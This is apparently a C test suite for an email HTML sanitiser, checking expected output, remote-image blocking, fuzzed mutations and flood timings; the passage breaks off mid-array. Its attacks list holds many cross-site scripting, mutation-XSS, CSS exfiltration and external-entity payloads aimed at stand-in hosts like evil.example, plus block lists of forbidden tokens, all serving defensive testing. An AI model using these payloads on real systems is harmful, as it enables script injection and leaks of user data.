/* SPDX-License-Identifier: GPL-3.0-or-later */

#include "config.h"

#include "mime/valija-html-private.h"

#include <libxml/HTMLparser.h>
#include <string.h>
#include <time.h>

/* Seconds that a flood may take: far more than it does, far less than what is quadratic. */
#define TIME_LIMIT 60.0

/* Everything that a sanitised document may consist of; written down a second time here, so that a
 * slip in the one list is seen. */
static const char *const elements[] = {
  "html", "head", "body", "meta", "style", "a", "abbr", "acronym", "address", "article", "aside",
  "b", "bdi", "bdo", "big", "blockquote", "br", "caption", "center", "cite", "code", "col",
  "colgroup", "dd", "del", "details", "dfn", "dir", "div", "dl", "dt", "em", "figcaption",
  "figure", "font", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "hr", "i", "img",
  "ins", "kbd", "li", "main", "mark", "menu", "nav", "ol", "p", "pre", "q", "rp", "rt", "ruby",
  "s", "samp", "section", "small", "span", "strike", "strong", "sub", "summary", "sup", "table",
  "tbody", "td", "tfoot", "th", "thead", "time", "tr", "tt", "u", "ul", "var", "wbr", NULL,
};

static gboolean
has_prefix (const char *text,
            const char *prefix)
{
  return g_ascii_strncasecmp (text, prefix, strlen (prefix)) == 0;
}

static void
check_css (const char *css)
{
  g_autofree char *lower = g_ascii_strdown (css, -1);
  static const char *const forbidden[] = {
    "expression", "javascript", "@import", "@font", "behavior", "-moz-binding", "position:", "<",
    "\\", "/*", "content:", "image-set", "var(",
  };

  for (gsize i = 0; i < G_N_ELEMENTS (forbidden); i++)
    for (const char *p = lower; (p = strstr (p, forbidden[i])) != NULL; p++)
      g_assert_true (strcmp (forbidden[i], "position:") == 0 && p > lower && p[-1] == '-');
  for (const char *p = lower; (p = strstr (p, "url(")) != NULL; p += 4)
    g_assert_true (has_prefix (p, "url(\"cid:") || has_prefix (p, "url(\"https://"));
}

static void
check_attribute (const char       *element,
                 const char       *name,
                 const char       *value,
                 ValijaHtmlPolicy  policy)
{
  g_assert_false (has_prefix (name, "on"));
  if (strcmp (name, "href") == 0)
    {
      g_assert_cmpstr (element, ==, "a");
      g_assert_true (has_prefix (value, "http://") || has_prefix (value, "https://") ||
                     has_prefix (value, "mailto:") || *value == '#');
    }
  else if (strcmp (name, "src") == 0)
    {
      g_assert_cmpstr (element, ==, "img");
      g_assert_true (has_prefix (value, "cid:") || has_prefix (value, "data:image/") ||
                     (policy == VALIJA_HTML_REMOTE_IMAGES && has_prefix (value, "https://")));
      g_assert_false (has_prefix (value, "data:image/svg"));
    }
  else if (strcmp (name, "style") == 0)
    {
      check_css (value);
      g_assert_true (policy == VALIJA_HTML_REMOTE_IMAGES || strstr (value, "https:") == NULL);
    }
  else
    {
      static const char *const forbidden[] = {
        "srcset", "action", "formaction", "xlink:href", "background", "poster", "ping", "data",
        "target", "srcdoc", "name", "usemap", "longdesc", "manifest",
      };

      for (gsize i = 0; i < G_N_ELEMENTS (forbidden); i++)
        g_assert_cmpstr (name, !=, forbidden[i]);
    }
}

/* The head is ours, so only what it says of itself is of interest. */
static void
check_meta (xmlNode *node)
{
  xmlChar *kind = xmlGetProp (node, (const xmlChar *) "http-equiv");

  if (kind != NULL)
    g_assert_cmpstr ((const char *) kind, ==, "Content-Security-Policy");
  xmlFree (kind);
}

static void
check_nodes (xmlNode          *root,
             ValijaHtmlPolicy  policy)
{
  xmlNode *node = root;

  while (node != NULL)
    {
      g_assert_cmpint (node->type, !=, XML_COMMENT_NODE);
      g_assert_cmpint (node->type, !=, XML_PI_NODE);
      if (node->type == XML_ELEMENT_NODE)
        {
          g_assert_true (g_strv_contains (elements, (const char *) node->name));
          if (strcmp ((const char *) node->name, "meta") == 0)
            check_meta (node);
          else
            for (xmlAttr *attribute = node->properties; attribute != NULL;
                 attribute = attribute->next)
              {
                xmlChar *value = xmlNodeListGetString (node->doc, attribute->children, 1);

                check_attribute ((const char *)node->name, (const char *)attribute->name,
                                 value != NULL ? (const char *)value : "", policy);
                xmlFree (value);
              }
        }
      if (node->type == XML_CDATA_SECTION_NODE)
        check_css ((const char *) node->content);

      if (node->children != NULL)
        {
          node = node->children;
          continue;
        }
      while (node != NULL && node->next == NULL)
        node = node->parent != root->parent ? node->parent : NULL;
      if (node != NULL)
        node = node->next;
    }
}

/* Everything but where elements end: libxml2 may close a broken element elsewhere than one that is
 * whole. */
static char *
dup_without_ends (const char *html)
{
  GString *out = g_string_new (NULL);

  for (const char *p = html; *p != '\0'; p++)
    {
      if (p[0] == '<' && p[1] == '/')
        p += strcspn (p, ">");
      else
        g_string_append_c (out, *p);
    }

  return g_string_free (out, FALSE);
}

/* Sanitises, reads the result again, and looks at all that is there. Returns the body. */
static char *
sanitise (const char       *html,
          ValijaHtmlPolicy  policy,
          guint            *n_blocked)
{
  ValijaHtmlOutcome outcome;
  g_autofree char *safe = valija_html_sanitise (html, policy, &outcome);
  g_autofree char *again = valija_html_sanitise (safe, policy, NULL);
  g_autofree char *text = valija_html_to_text (html);
  g_autofree char *once = NULL;
  g_autofree char *twice = NULL;
  htmlDocPtr document;
  const char *body;

  if (n_blocked != NULL)
    *n_blocked = outcome.n_blocked;
  g_assert_true (g_utf8_validate (safe, -1, NULL));
  g_assert_true (g_utf8_validate (text, -1, NULL));
  g_assert_true (g_str_has_prefix (
      safe, "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta "
            "http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';"));

  document = htmlReadMemory (safe, strlen (safe), NULL, "UTF-8",
                             HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING | HTML_PARSE_NONET);
  g_assert_nonnull (document);
  check_nodes (xmlDocGetRootElement (document), policy);
  xmlFreeDoc (document);

  /* What was made once comes out as it went in */
  once = dup_without_ends (safe);
  twice = dup_without_ends (again);
  g_assert_cmpstr (twice, ==, once);

  body = strstr (safe, "<body>");
  g_assert_nonnull (body);
  g_assert_true (g_str_has_suffix (safe, "</body></html>"));

  return g_strndup (body + 6, strlen (body) - 6 - strlen ("</body></html>"));
}

static const struct
{
  const char *html;
  const char *expected;
} cases[] = {
  { "", "" },
  { "Hello", "Hello" },
  { "a < b & c > d", "a &lt; b &amp; c &gt; d" },
  { "<p>one<p>two", "<p>one</p><p>two</p>" },
  { "<b><i>x</b>y</i>", "<b><i>x</i></b>y" },
  { "<div>open", "<div>open</div>" },
  { "stray</div></table>", "stray" },
  { "<a href=\"https://example.org/?a=1&amp;b=2\">x</a>",
    "<a href=\"https://example.org/?a=1&amp;b=2\" rel=\"noopener noreferrer\">x</a>" },
  { "<a href=\"mailto:a@b.c\">x</a>",
    "<a href=\"mailto:a@b.c\" rel=\"noopener noreferrer\">x</a>" },
  { "<a href=\"#top\">x</a>", "<a href=\"#top\">x</a>" },
  { "<a href=\"//example.org\">x</a>",
    "<a href=\"https://example.org\" rel=\"noopener noreferrer\">x</a>" },
  { "<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>" },
  { "<a href=\" jAvA\tscr\nipt:alert(1)\">x</a>", "<a>x</a>" },
  { "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a>x</a>" },
  { "<a href=\"data:text/html,x\">x</a>", "<a>x</a>" },
  { "<a href=\"file:///etc/passwd\">x</a>", "<a>x</a>" },
  { "<a href=\"relative\">x</a>", "<a>x</a>" },
  { "<img src=\"cid:a@b\" alt=\"A\">", "<img src=\"cid:a@b\" alt=\"A\">" },
  { "<img src=\"https://t.example/p.png\" width=\"1\" alt=\"A\">", "<img width=\"1\" alt=\"A\">" },
  { "<img src=\"data:image/png;base64,AAAA\">", "<img src=\"data:image/png;base64,AAAA\">" },
  { "<img src=\"data:image/svg+xml;base64,AAAA\">", "<img>" },
  { "<img src=x onerror=alert(1)>", "<img>" },
  { "<script>alert(1)</script>x", "x" },
  { "<style>p{color:red}</style>x", "x" },
  { "<svg><script>alert(1)</script><p>y</svg>x", "x" },
  { "<form action=x><input value=y>text<button>go</button></form>", "textgo" },
  { "<select><option>a</select>x", "x" },
  { "<iframe src=x>y</iframe>x", "x" },
  { "<noscript><p>plain</p></noscript>", "<p>plain</p>" },
  { "<!-- comment --><![CDATA[x]]><?php y ?>z", "z" },
  { "<body bgcolor=\"#fff\" onload=x()>y</body>", "<div bgcolor=\"#fff\">y</div>" },
  { "<font color=red face='Times \"New\"'>x</font>",
    "<font color=\"red\" face=\"Times &quot;New&quot;\">x</font>" },
  { "<p style=\"color:red;position:fixed;top:0\">x</p>", "<p style=\"color:red;\">x</p>" },
  { "<p style=\"background:url(https://t.example/x)\">x</p>", "<p>x</p>" },
  { "<p style=\"background:url(cid:x)\">x</p>",
    "<p style=\"background:url(&quot;cid:x&quot;);\">x</p>" },
  { "<p style=\"width:expression(alert(1))\">x</p>", "<p>x</p>" },
  { "<p style=\"color:r\\65 d\">x</p>", "<p>x</p>" },
  { "<p style=\"color:/**/red;font:12px/1.5 'A B',serif!important\">x</p>",
    "<p style=\"color:red;font:12px/1.5 &quot;A B&quot;,serif!important;\">x</p>" },
  { "<p style=\"width:calc(100% - (2 * 3px));margin:-1px auto\">x</p>",
    "<p style=\"width:calc(100% - (2 * 3px));margin:-1px auto;\">x</p>" },
  { "<table background=\"cid:x\"><tr><td>y</table>",
    "<table style=\"background-image:url(&quot;cid:x&quot;);\"><tr><td>y</td></tr></table>" },
  { "<o:p>&nbsp;</o:p><v:shape onload=x>y</v:shape>", "\302\240y" },
  { "x<br>y<hr/>z", "x<br>y<hr>z" },
  { "<p title='&lt;script&gt;&quot;`'>x</p>", "<p title=\"&lt;script&gt;&quot;&#96;\">x</p>" },
  { "\xff<p>\xc3\xa9</p>", "\357\277\275<p>é</p>" },
  { "&eacute;&#x20ac;&#0;&bogus;", "é€&amp;bogus;" },
};

static void
test_cases (void)
{
  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *body = sanitise (cases[i].html, VALIJA_HTML_LOCAL_ONLY, NULL);

      g_assert_cmpstr (body, ==, cases[i].expected);
    }
}

/* Ideas of the public collections of attacks (XSS filter evasion, HTML5 security, mutation), each
 * written anew. What they are tried for is in check_nodes(): whatever is left, it is nothing but
 * the lists above. */
static const char *const attacks[] = {
  "<script src=//evil.example/x.js></script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1);//<</script>",
  "<script/x>alert(1)</script>",
  "<script\x0c>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert&#40;1)</script>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a>",
  "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><rect></a>",
  "<svg><set attributeName=onmouseover to=alert(1)>",
  "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/>",
  "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<math href=javascript:alert(1)>x</math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><img src=x onerror=alert(1)></template>",
  "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
  "<title><a href=\"</title><img src=x onerror=alert(1)>\"></title>",
  "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<noembed><img src=\"</noembed><iframe onload=alert(1)>\"></noembed>",
  "<select><template><img src=x onerror=alert(1)></template></select>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)>",
  "<img src=\"x`\" title=\"``onerror=alert(1)\">",
  "<img \"\"\"><script>alert(1)</script>\">",
  "<img src=javascript:alert(1)>",
  "<img src=\"jav&#x09;ascript:alert(1)\">",
  "<img src=\"jav&#x0A;ascript:alert(1)\">",
  "<img src=\" &#14;  javascript:alert(1)\">",
  "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
  "<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099:alert(1)>",
  "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
  "<img srcset=\"https://evil.example/a 1x, https://evil.example/b 2x\">",
  "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
  "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
  "<img src=\"data:image/png;base64,AAAA\\\" onerror=alert(1)\">",
  "<img src=\"cid:x\" onload=alert(1) onerror=alert(1) onclick=alert(1)>",
  "<img src=\"//evil.example/x.png\">",
  "<img src=\"\\\\evil.example\\x.png\">",
  "<img src=\"/\\evil.example/x.png\">",
  "<img src=\"https:evil.example/x.png\">",
  "<img src=\"http://evil.example/x.png\">",
  "<img src=\"ftp://evil.example/x.png\">",
  "<img src=\"file:///etc/passwd\">",
  "<img src=\"blob:https://evil.example/1\">",
  "<img src=\"about:blank\">",
  "<img src=\"chrome://x\">",
  "<img src=\"view-source:https://evil.example\">",
  "<img src=\"filesystem:https://evil.example/x\">",
  "<input type=image src=https://evil.example/x>",
  "<picture><source srcset=https://evil.example/x><img></picture>",
  "<video poster=https://evil.example/x src=https://evil.example/y autoplay><source "
    "src=https://evil.example/z onerror=alert(1)></video>",
  "<audio src=https://evil.example/x autoplay>",
  "<video><track src=https://evil.example/x default></video>",
  "<embed src=https://evil.example/x>",
  "<object data=https://evil.example/x type=text/html></object>",
  "<object><param name=src value=https://evil.example/x></object>",
  "<applet code=x archive=https://evil.example/x.jar></applet>",
  "<iframe src=https://evil.example></iframe>",
  "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
  "<frameset><frame src=https://evil.example></frameset>",
  "<frameset onload=alert(1)>",
  "<portal src=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=dns-prefetch href=//evil.example>",
  "<link rel=preconnect href=https://evil.example>",
  "<link rel=prefetch href=https://evil.example>",
  "<link rel=prerender href=https://evil.example>",
  "<link rel=preload as=image href=https://evil.example>",
  "<link rel=modulepreload href=https://evil.example>",
  "<link rel=icon href=https://evil.example>",
  "<link rel=import href=https://evil.example>",
  "<link rel=manifest href=https://evil.example>",
  "<base href=https://evil.example/><a href=x>y</a>",
  "<base target=_blank>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
  "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
  "<meta http-equiv=set-cookie content=a=b>",
  "<meta http-equiv=x-dns-prefetch-control content=on>",
  "<meta http-equiv=content-security-policy content=\"img-src *\">",
  "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<html manifest=https://evil.example>",
  "<body background=https://evil.example/x onload=alert(1) onpageshow=alert(1)>",
  "<table background=javascript:alert(1)><td background=https://evil.example/x>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href=JaVaScRiPt:alert(1)>x</a>",
  "<a href=\"java\nscript:alert(1)\">x</a>",
  "<a href=\"\tjavascript:alert(1)\">x</a>",
  "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
  "<a href=\"javascript&colon;alert(1)\">x</a>",
  "<a href=\"javascript&#58alert(1)\">x</a>",
  "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
  "<a href=\"\xc2\xa0javascript:alert(1)\">x</a>",
  "<a href=\"\xe2\x80\xa8javascript:alert(1)\">x</a>",
  "<a href=\"javascript\xef\xbc\x9a" "alert(1)\">x</a>",
  "<a href=vbscript:msgbox(1)>x</a>",
  "<a href=livescript:x>x</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  "<a href=\"jar:https://evil.example!/x\">x</a>",
  "<a href=feed:javascript:alert(1)>x</a>",
  "<a href=\"https://ok.example\" ping=https://evil.example>x</a>",
  "<a href=\"https://ok.example\" target=_blank onclick=alert(1)>x</a>",
  "<a href=\"https://ok.example/\"onmouseover=\"alert(1)\">x</a>",
  "<a href=https://ok.example/`onmouseover=alert(1)>x</a>",
  "<a href=\"https://ok.example/&quot;onmouseover=&quot;alert(1)\">x</a>",
  "<a href='https://ok.example/\"onmouseover=\"alert(1)'>x</a>",
  "<a name=x id=__proto__ href=#x>y</a>",
  "<area href=javascript:alert(1)>",
  "<map name=m><area href=javascript:alert(1)></map><img usemap=#m>",
  "<form action=https://evil.example><input name=a type=password autofocus onfocus=alert(1)>"
    "<button formaction=javascript:alert(1)>x",
  "<form id=x></form><button form=x formaction=https://evil.example>y",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<bgsound src=https://evil.example>",
  "<layer src=https://evil.example></layer>",
  "<xml id=x><a><b>&lt;script&gt;</b></a></xml>",
  "<?import namespace=t implementation=\"#default#time2\">",
  "<t:set attributename=innerHTML to=\"&lt;img src=x onerror=alert(1)&gt;\">",
  "<v:rect style=\"behavior:url(#default#VML)\" fill src=https://evil.example>",
  "<div datasrc=#x datafld=b dataformatas=html></div>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>-->",
  "<!-- <img src=\"--><img src=x onerror=alert(1)//\">",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
  "<!DOCTYPE html PUBLIC \"x\" \"https://evil.example/x.dtd\">",
  "<style>@import url(https://evil.example/x.css);</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>@\\69mport 'https://evil.example/x.css';</style>",
  "<style>@font-face{font-family:x;src:url(https://evil.example/x)}</style>",
  "<style>@namespace x url(https://evil.example);</style>",
  "<style>@media all{@import url(https://evil.example)}</style>",
  "<style>@media all{@media all{p{color:red}}}</style>",
  "<style>p{background:url(https://evil.example/x)}</style>",
  "<style>p{background:ur\\6c(https://evil.example/x)}</style>",
  "<style>p{background:url(\"https://evil.example/x\")}</style>",
  "<style>p{background:url( https://evil.example/x )}</style>",
  "<style>p{background:image-set('https://evil.example/x' 1x)}</style>",
  "<style>p{background:-webkit-image-set(url(https://evil.example/x) 1x)}</style>",
  "<style>p{background:cross-fade(url(https://evil.example/x),red)}</style>",
  "<style>p{--x:url(https://evil.example/x);background:var(--x)}</style>",
  "<style>p{list-style:url(https://evil.example/x)}p{cursor:url(https://evil.example/x),"
    "auto}p{content:url(https://evil.example/x)}</style>",
  "<style>p{border-image:url(https://evil.example/x);mask:url(https://evil.example/x);"
    "filter:url(https://evil.example/x#y)}</style>",
  "<style>input[value^=a]{background:url(https://evil.example/a)}</style>",
  "<style>p{-moz-binding:url(https://evil.example/x#y);behavior:url(https://evil.example/x)}</style>",
  "<style>p{width:expression(alert(1))}p{width:exp/**/ression(alert(1))}</style>",
  "<style>p{color:red}</style><style>}</style>x{y:z}",
  "<style>p{color:red;</style><style>background:url(https://evil.example/x)}</style>",
  "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
  "<style>p{font-family:\"\\3c/style>\"}</style>",
  "<style><!-- --><script>alert(1)</script></style>",
  "<style>/*</style><img src=x onerror=alert(1)>*/",
  "<style>a{color:/<!--*x;}b{color:calc(1/<!--* 2)}</style>",
  "<p style=\"background:url(https://evil.example/x)\">",
  "<p style=\"background:\\75rl(https://evil.example/x)\">",
  "<p style=\"background:url('https://evil.example/x\">",
  "<p style=\"background:url(https://evil.example/x;color:red\">",
  "<p style=\"background:url(javascript:alert(1))\">",
  "<p style=\"background:url(data:image/svg+xml,x)\">",
  "<p style=\"background:url(cid:x);background:url(https://evil.example/x)\">",
  "<p style=\"background:url(&#34;cid:x&#34;)}body{background:url(https://evil.example)\">",
  "<p style='font-family:\"&lt;/p&gt;\"'>",
  "<p style=\"color:red;/*\">x</p><p style=\"*/background:url(https://evil.example)\">",
  "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">",
  "<p style=\"width:expression(alert(1))\">",
  "<p style=\"@import url(https://evil.example)\">",
  "<p style=\"color:expression(alert(1)) !important\">",
  "<p style=\"xss:\\65xpression(alert(1))\">",
  "<p id='a\"onclick=alert(1)' class='x\" onclick=\"y'>",
  "<p title=\"&quot;><script>alert(1)</script>\">",
  "<p title='\"><img src=x onerror=alert(1)>'>",
  "<p lang=\"x\" xml:lang=\"y\" xmlns=\"https://evil.example\">",
  "<p dir=rtl onclick=alert(1) OnClick=alert(1) ONMOUSEOVER=x>",
  "<p/onclick=alert(1)>",
  "<p\x0bonclick=alert(1)>",
  "<p onclick\n=\nalert(1)>",
  "<p =onclick=alert(1)>",
  "<p 'onclick=alert(1)>",
  "<p data-x=\"<script>\" aria-label=y role=z contenteditable tabindex=1 accesskey=x "
    "draggable=true is=foo slot=s part=p nonce=n>",
  "<a href=https://a.example/<b onclick=alert(1)>x</b>",
  "<table><td><a><table><style></table><img src=x onerror=alert(1)></style>",
  "<a><table><a href=javascript:alert(1)>x</table></a>",
  "<b><p></b><script>alert(1)</script></p>",
  "<p><table><p><script>alert(1)</script></table>",
  "<div><form><div></form><img src=x onerror=alert(1)></div>",
  "<ul><li><table><ul></table><img src=x onerror=x></ul>",
  "<h1><option><h1><img src=x onerror=alert(1)>",
  "<font face=\"<img src=x onerror=alert(1)>\" color=\"javascript:x\">",
  "<custom-element onclick=alert(1)>x</custom-element>",
  "<p<script>alert(1)</script>",
  "<p title=\"a",
  "<p title='a' ",
  "<a href='",
  "<",
  "</",
  "<!",
  "<!-",
  "<!--",
  "<?",
  "<a",
  "&",
  "&#",
  "&#x",
  "&#xffffffff;&#99999999999;&#-1;&#x110000;&#xd800;&#xfffe;",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;script&amp;gt;",
  "\x01\x02<p>\x1b[31m\x7f\xc2\x85</p>",
  "<p>\xef\xbb\xbf\xe2\x80\xae\xed\xa0\x80\xf4\x90\x80\x80</p>",
  "\xc0\xbcscript\xc0\xbe",
};

static void
test_attacks (void)
{
  g_autoptr(GString) together = g_string_new (NULL);

  for (gsize i = 0; i < G_N_ELEMENTS (attacks); i++)
    {
      guint blocked = 0;
      g_autofree char *local = sanitise (attacks[i], VALIJA_HTML_LOCAL_ONLY, &blocked);
      g_autofree char *remote = sanitise (attacks[i], VALIJA_HTML_REMOTE_IMAGES, &blocked);
      g_autofree char *quoted = g_strdup_printf ("<div title=\"%s\">%s</div>", attacks[i],
                                                 attacks[i]);
      g_autofree char *within = sanitise (quoted, VALIJA_HTML_LOCAL_ONLY, NULL);

      g_assert_cmpuint (blocked, ==, 0);
      g_assert_true (strstr (local, "evil.example/x.png") == NULL);
      g_string_append (together, attacks[i]);
    }

  g_free (sanitise (together->str, VALIJA_HTML_LOCAL_ONLY, NULL));
  g_free (sanitise (together->str, VALIJA_HTML_REMOTE_IMAGES, NULL));
}

/* Pieces of the attacks put together anew, the same every time. */
static void
test_mutations (void)
{
  static const char *const glue[] = {
    "<", ">", "\"", "'", "`", "/", "=", " ", "<!--", "-->", "<style>", "</style>", "<table>",
    "</p>", "<p ", "&", ";", "{", "}", "url(", ")", "\n", "<a href=", "<img src=", "style=", "on",
    "javascript:", "</", "<![", "]]>", "<svg>", "</svg>", "<title>", "\\",
  };
  g_autoptr(GRand) rand = g_rand_new_with_seed (20261124);

  for (int round = 0; round < 4000; round++)
    {
      g_autoptr(GString) html = g_string_new (NULL);
      g_autofree char *valid = NULL;

      for (int i = g_rand_int_range (rand, 1, 12); i > 0; i--)
        {
          const char *attack = attacks[g_rand_int_range (rand, 0, G_N_ELEMENTS (attacks))];
          gsize length = strlen (attack);
          gsize from = g_rand_int_range (rand, 0, length);

          g_string_append_len (html, attack + from, g_rand_int_range (rand, 0, length - from + 1));
          g_string_append (html, glue[g_rand_int_range (rand, 0, G_N_ELEMENTS (glue))]);
        }
      g_free (sanitise (html->str,
                        round % 2 == 0 ? VALIJA_HTML_LOCAL_ONLY : VALIJA_HTML_REMOTE_IMAGES, NULL));
    }
}

static void
test_blocked (void)
{
  static const char html[] =
    "<body background=\"https://t.example/0\"><img src=\"https://t.example/1\"><img "
      "src=\"http://t.example/2\"><img src=\"cid:x\">"
    "<p style=\"background-image:url(https://t.example/3)\">x</p><style>p{background:url(https://t.example/4)}</style>"
    "<script src=\"https://t.example/5\"></script></body>";
  guint blocked;
  g_autofree char *local = sanitise (html, VALIJA_HTML_LOCAL_ONLY, &blocked);
  g_autofree char *remote = NULL;

  g_assert_cmpuint (blocked, ==, 5);
  g_assert_null (strstr (local, "t.example"));
  g_assert_nonnull (strstr (local, "cid:x"));

  remote = sanitise (html, VALIJA_HTML_REMOTE_IMAGES, &blocked);
  g_assert_cmpuint (blocked, ==, 0);
  g_assert_nonnull (strstr (remote, "src=\"https://t.example/2\""));
  g_assert_nonnull (strstr (remote, "url(&quot;https://t.example/3&quot;)"));
  g_assert_null (strstr (remote, "t.example/5"));
}

static void
test_sheet (void)
{
  static const char html[] =
    "<html><head><title>no</title><style type=\"text/css\"><!--\n.a, #b > td:hover { color: #fff; "
      "position: absolute }\n"
    "@media only screen and (max-width: 480px) { .c { width: 100% !important; } }\n[x] { color: "
      "red }\n-->\n</style></head><body>y</body></html>";
  g_autofree char *safe = valija_html_sanitise (html, VALIJA_HTML_LOCAL_ONLY, NULL);

  g_assert_nonnull (strstr (
      safe, "<style>.a, #b > td:hover {color:#fff;}\n@media only screen and (max-width: 480px) "
            "{.c {width:100% !important;}\n}\n</style>"));
  g_assert_null (strstr (safe, ">no<"));
}

/* Processor time, for the machine may be busy with other things; in seconds. */
static double
get_seconds (void)
{
  return (double) clock () / CLOCKS_PER_SEC;
}

/* Nobody waits for what a hostile page costs. */
static void
test_floods (void)
{
  static const char *const floods[] = {
    "<div>", "<b>", "<p>", "<li>", "<table><tr><td>", "<a href=x>", "<blockquote>", "</b>", "<",
    "<!--", "<![", "&", "&#", "<x ", "<style>", "<svg>", "<p style=\"color:red\">",
    "<img src=https://t.example/x>", "<ul><li>", "<pre>", "<font><b><i>", "\"", "<p title='",
    "<br>", "a ",
  };

  const gsize size = g_test_slow () ? 9 * 1024 * 1024 : 128 * 1024;

  for (gsize i = 0; i < G_N_ELEMENTS (floods); i++)
    {
      g_autoptr(GString) html = g_string_new (NULL);
      double start = get_seconds ();

      while (html->len < size)
        g_string_append (html, floods[i]);
      {
        g_autofree char *safe = valija_html_sanitise (html->str, VALIJA_HTML_LOCAL_ONLY, NULL);
        g_autofree char *text = valija_html_to_text (html->str);
        g_autofree char *from = valija_html_fragment_from_text (html->str);

        g_assert_nonnull (safe);
        g_assert_nonnull (text);
        g_assert_nonnull (from);
      }
      g_test_message ("%s: %.2f s", floods[i], get_seconds () - start);
      g_assert_cmpfloat (get_seconds () - start, <, TIME_LIMIT);
    }
}

static void
test_attribute_flood (void)
{
  g_autoptr(GString) html = g_string_new ("<p");
  g_autoptr(GString) stray = g_string_new (NULL);
  double start = get_seconds ();

  for (int i = 0; i < 700000; i++)
    g_string_append_printf (html, " a%d=1", i);
  g_string_append (html, ">x</p>");
  g_free (valija_html_sanitise (html->str, VALIJA_HTML_LOCAL_ONLY, NULL));

  for (int i = 0; i < 510; i++)
    g_string_append (stray, "<div>");
  while (stray->len < (g_test_slow () ? 8 * 1024 * 1024 - 10 : 128 * 1024))
    g_string_append (stray, "</i>");
  g_free (valija_html_sanitise (stray->str, VALIJA_HTML_LOCAL_ONLY, NULL));

  g_test_message ("%.2f s", get_seconds () - start);
  g_assert_cmpfloat (get_seconds () - start, <, TIME_LIMIT);
}

static const struct
{
  const char *html;
  const char *text;
} to_texts[] = {
  { "", "" },
  { "Hello   \n world", "Hello world" },
  { "<p>one</p><p>two</p>", "one\n\ntwo" },
  { "<div>one</div><div>two</div>", "one\ntwo" },
  { "one<br>two<br><br>three", "one\ntwo\n\nthree" },
  { "<b>bo</b>ld <i>it</i>", "bold it" },
  { "a&nbsp;&amp;&lt;b&gt;", "a &<b>" },
  { "<ul><li>one<li>two</ul>end", "• one\n• two\n\nend" },
  { "<ol><li>one<li>two<ul><li>x</ul></ol>", "1. one\n2. two\n  • x" },
  { "<blockquote>quoted<p>more</blockquote>after", "> quoted\n>\n> more\n\nafter" },
  { "<blockquote>a<blockquote>b</blockquote></blockquote>", "> a\n>\n> > b" },
  { "<a href=\"https://example.org/x\">text</a>.", "text <https://example.org/x>." },
  { "<a href=\"https://example.org/x\">https://example.org/x</a>", "https://example.org/x" },
  { "<a href=\"http://example.org/\">example.org/</a>", "example.org/" },
  { "<a href=\"mailto:a@b.c\">a@b.c</a>", "a@b.c" },
  { "<a href=\"mailto:a@b.c\">Ann</a>", "Ann <a@b.c>" },
  { "<a href=\"javascript:x\">text</a>", "text" },
  { "<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc" },
  { "<pre>a\n  b\n\nc</pre>", "a\n  b\n\nc" },
  { "a<hr>b", "a\n----------\nb" },
  { "<img alt=\"Logo\" src=x> x", "Logo x" },
  { "<style>p{}</style><script>x</script><title>t</title>y", "y" },
  { "<h1>Title</h1>text", "Title\n\ntext" },
  { "a<p style=\"display:none\">x <b>y</b></p>b", "ab" },
  { "a<p style=\"Display : None !important\">x</p>", "a" },
